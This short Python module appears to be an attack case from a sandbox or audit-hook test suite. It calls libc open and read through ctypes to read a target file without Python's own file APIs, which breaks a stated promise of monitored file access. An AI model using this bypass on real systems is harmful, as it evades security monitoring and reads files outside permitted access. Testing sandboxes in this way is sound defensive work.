"""Promise: no file can be read by a system call that Python does not know of."""

import ctypes

AIM = "loot"


def attack(target):
    libc = ctypes.CDLL(None)
    fd = libc.open(target["file"].encode(), 0)
    data = ctypes.create_string_buffer(100)
    size = libc.read(fd, data, 100)
    return data.raw[: max(size, 0)]
